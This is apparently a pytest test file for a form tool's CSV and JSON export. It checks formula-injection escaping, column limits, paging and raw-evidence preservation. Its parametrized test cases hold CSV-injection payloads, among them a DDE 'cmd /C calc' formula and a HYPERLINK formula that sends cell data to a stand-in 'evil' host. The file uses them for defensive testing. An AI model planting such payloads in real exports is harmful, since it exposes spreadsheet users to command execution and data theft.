"""Export: records and CSV, safe against formulas."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Sequence
from datetime import UTC, datetime, timedelta
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from todoke.model.address import Address
from todoke.model.delivery import Ceiling, DeliveryEvent, Kind, Reason, standing
from todoke.model.form import Site
from todoke.model.mail import Mailbox
from todoke.model.message import Attempt, AttemptTimeline, Message, MessageTimeline, Role, Timeline
from todoke.model.settings import MailSettings, Settings
from todoke.model.submission import Entry, EntryList, File, Submission
from todoke.model.zone import Zone
from todoke.ports.archive import Page, Query
from todoke.report import export, table
from todoke.testing import MemoryStore

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
TOKYO = Zone("Asia/Tokyo", ZoneInfo("Asia/Tokyo"))
SETTINGS = Settings(
    site=Site(name="Example"),
    mail=MailSettings(service="smtp", sender=Mailbox(name="", address=Address("forms@example.jp"))),
    forms={},
    data=Path("data"),
    secret=b"x" * 32,
)


def timeline_of(entries: EntryList, status: Kind = Kind.BOUNCED) -> Timeline:
    """A submission whose confirmation was tried once and came to `status`."""
    submission = Submission(
        id="s1",
        form="contact",
        received_at=NOW - timedelta(hours=1),
        entries=entries,
        language="en",
        visitor=Address("hanako@example.jp"),
        token_hash="",
    )
    message = Message(
        id="m1",
        submission_id="s1",
        role=Role.CONFIRMATION,
        recipient=Address("hanako@example.jp"),
        language="en",
        message_id="<m1@example.jp>",
        created_at=NOW,
    )
    attempt = Attempt(
        token="t1",
        message_id="m1",
        number=1,
        recipient=Address("hanako@example.jp"),
        service="smtp",
        ceiling=Ceiling.HANDED_OVER,
        started_at=NOW,
    )
    event = DeliveryEvent(
        kind=status,
        at=NOW,
        received_at=NOW,
        service="smtp",
        token="t1",
        reason=Reason.UNKNOWN_ADDRESS,
        raw=b"\xff550",
    )
    found = standing([event], recipient=Address("hanako@example.jp"), started_at=NOW)
    attempts = (AttemptTimeline(attempt=attempt, events=(event,), standing=found),)
    return Timeline(
        submission=submission,
        messages=(MessageTimeline(message=message, attempts=attempts, due_at=None),),
    )


def table_of(timelines: list[Timeline]) -> list[list[str]]:
    """The rows that a reader of the CSV sees."""
    return list(csv.reader(io.StringIO(text_of(timelines), newline="")))


def text_of(timelines: list[Timeline], known: Sequence[str] = ()) -> str:
    """The text of the CSV."""
    fields = table.field_columns(timelines, known)
    rows = table.table(timelines, fields, lambda m: m.standing.status.value, TOKYO)
    return "".join(table.csv_lines(rows))


def test_csv_has_a_heading_and_a_row_for_each_submission() -> None:
    """Fixed columns come first, then each field; repeated answers share a cell, a file is its name."""
    entries = (
        Entry("topic", "a"),
        Entry("topic", "b"),
        Entry("cv", File(name="cv.pdf", media_type="application/pdf", content=b"1")),
        Entry("id", "x"),
    )
    heading, row = table_of([timeline_of(entries)])
    assert heading[:5] == ["id", "received_at", "form", "ordinal", "visitor"]
    assert heading[-4:] == ["topic", "cv", "id (field)", "more_fields"]
    assert row[:2] == ["s1", "2026-03-01T20:00:00.000+09:00"]
    assert row[heading.index("confirmation")] == "bounced"
    assert row[-4:] == ["a\nb", "cv.pdf", "x", ""]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        *(
            (cell, "'" + cell)
            for cell in ("=1+1", "+1", "-1", "@SUM(A1)", "＝1", "＋1", "－1", "＠x")
        ),
        *(
            (cell, "'" + cell)
            for cell in ("﹦1", "⁼1", "﹢1", "−1", "﹣1", " =1", "\u00a0=1", "\u3000＝1")
        ),
        *(
            (cell, "'" + cell)
            for cell in ("\u200b=1", "\ufeff=1", "\0=1", "\x0b=1", "\x85=1", "\u202e=1")
        ),
        *(
            (cell, "'" + cell)
            for cell in ('"=1', "=cmd|' /C calc'!A0", "\tplain", "\rplain", "\nplain")
        ),
        ("\t=1", "'\t'=1"),
        ('a;=HYPERLINK("http://evil/?"&A1)', 'a;\'=HYPERLINK("http://evil/?"&A1)'),
        ('a; "=1;+2', "a;' \"=1;'+2"),
        ("a\t=1", "a\t'=1"),
        ("a\r\n@x", "a\r\n'@x"),
        ("a;\u3000－1", "a;'\u3000－1"),
    ],
)
def test_no_cell_is_a_formula(cell: str, safe: str) -> None:
    """What a spreadsheet would calculate has an apostrophe before it, in headings too."""
    heading, row = table_of([timeline_of((Entry(cell, cell),))])
    assert heading[-2] == safe
    assert row[-2] == safe


@pytest.mark.parametrize(
    "cell", ["a=1", "a,=1", "1-2", "a@b.example", "ー1", "3 = 3", "; ; x", "'=1", "a;b", "|cmd", ""]
)
def test_what_is_no_formula_stays(cell: str) -> None:
    """Honest text is not touched: a sign within it, a mail address, a long vowel."""
    assert table.guarded(cell) == cell


FORMULA_SIGNS = "=+-@＝＋－＠"


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@given(st.lists(st.text(st.sampled_from(FORMULA_SIGNS + ";,\t\r\n\"' a1\u3000\0"), max_size=12)))
def test_no_reader_sees_a_formula(delimiter: str, values: list[str]) -> None:
    """However a spreadsheet parts cells and lines, none of them begins as a formula, blanks and quotes aside."""
    text = text_of([timeline_of(tuple(Entry(f"f{n}", value) for n, value in enumerate(values)))])
    # Who parts cells otherwise sees no quotes around a line end, and so a line more.
    texts = re.split("[\r\n]", text) if delimiter != "," else []
    for line in [text, *texts]:
        for row in csv.reader(io.StringIO(line.replace("\0", ""), newline=""), delimiter=delimiter):
            for cell in row:
                assert not cell.strip(' "\u3000').startswith(tuple(FORMULA_SIGNS)), (line, cell)


def test_a_stranger_makes_no_wide_table() -> None:
    """Ten thousand names in one sending get the columns that are left; the others share one, and nothing is lost."""
    strange = tuple(Entry(f"x{n}", f"v{n}") for n in range(10_000))
    honest = [timeline_of((Entry("message", "hello"), Entry("name", "Aoi"))) for _ in range(3)]
    timelines = [timeline_of(strange), *honest]
    fields = table.field_columns(timelines, ["name"])
    assert fields[0] == "name"
    assert "message" in fields
    assert len(fields) == table.MOST_COLUMNS + 1
    csv.field_size_limit(10**9)
    text = text_of(timelines, ["name"])
    heading, row, *others = csv.reader(io.StringIO(text, newline=""))
    assert heading[-1] == table.MORE_COLUMN
    assert "x9999: v9999" in row[-1].split("\n")
    assert [other[-1] for other in others] == [""] * 3


def test_columns_are_found_by_the_newest() -> None:
    """What only older ones answered has a column where the configuration names it, and else stands in the last one."""
    newest = [timeline_of((Entry("name", "Aoi"), Entry("new", "x")))] * 2
    old = timeline_of((Entry("old", "was asked"), Entry("tel", "03")))
    read = iter([*newest, old])
    fields = table.field_columns(read, ["name", "mail", "tel"], most=2)
    assert fields == ["name", "mail", "tel", "new"]
    assert list(read) == [old], "no more are looked at"
    [_, *_, row] = table.table([*newest, old], fields, lambda m: "", TOKYO)
    assert row[-5:] == ["", "", "03", "", "old: was asked"]


def test_columns_of_few_are_those_that_were_answered() -> None:
    """In the order of the configuration, the others after them."""
    fields = table.field_columns([timeline_of((Entry("b", "1"), Entry("z", "1")))], ["a", "b"])
    assert fields == ["b", "z"]


class Pages(MemoryStore):
    """Page after page without end, the second of which is empty."""

    def page(self, query: Query) -> Page:
        """See Archive."""
        number = int(query.before or 0)
        found = () if number == 1 else (timeline_of(()),) * 3
        return Page(timelines=found, next=str(number + 1))


def test_a_watch_ends_the_reading() -> None:
    """It is told after each page how many came, also where none did, and nothing is read after it said no."""
    told: list[int] = []

    def watch(passed_on: int) -> bool:
        told.append(passed_on)
        return len(told) < 3

    assert len(list(export.all_pages(Pages(), Query(), watch=watch))) == 6
    assert told == [3, 3, 6]


def test_names_without_end_are_counted_in_bounds() -> None:
    """Sending after sending with new names: what most submissions have keeps its column."""
    timelines = (
        timeline_of((*(Entry(f"{m}.{n}", "") for n in range(1_000)), Entry("message", "hello")))
        for m in range(60)
    )
    fields = table.field_columns(timelines)
    assert "message" in fields
    assert len(fields) == table.MOST_COLUMNS


@given(
    st.lists(st.text(st.characters(exclude_categories=["Cs"]), max_size=20), min_size=1, max_size=5)
)
def test_csv_keeps_every_answer(values: list[str]) -> None:
    """Whatever was typed comes back from the CSV, but for the apostrophe."""
    entries = tuple(Entry(f"f{n}", value) for n, value in enumerate(values))
    row = table_of([timeline_of(entries)])[1]
    assert row[-len(values) - 1 :] == [*(table.guarded(value) for value in values), ""]


def test_a_record_has_answers_messages_and_evidence() -> None:
    """The full record holds what is known, with the raw evidence readable and nothing lost."""
    found = export.full_record(timeline_of((Entry("name", "\ufffd", b"\x82"),)), SETTINGS, NOW)
    assert found["entries"] == [{"name": "name", "value": "\ufffd", "raw_hex": "82"}]
    message = found["messages"][0]
    assert (message["status"], message["reason"]) == ("bounced", "unknown_address")
    assert message["attempts"][0]["events"][0]["raw"] == "\\xff550"
    assert found["received_at"] == "2026-03-01T11:00:00.000Z"
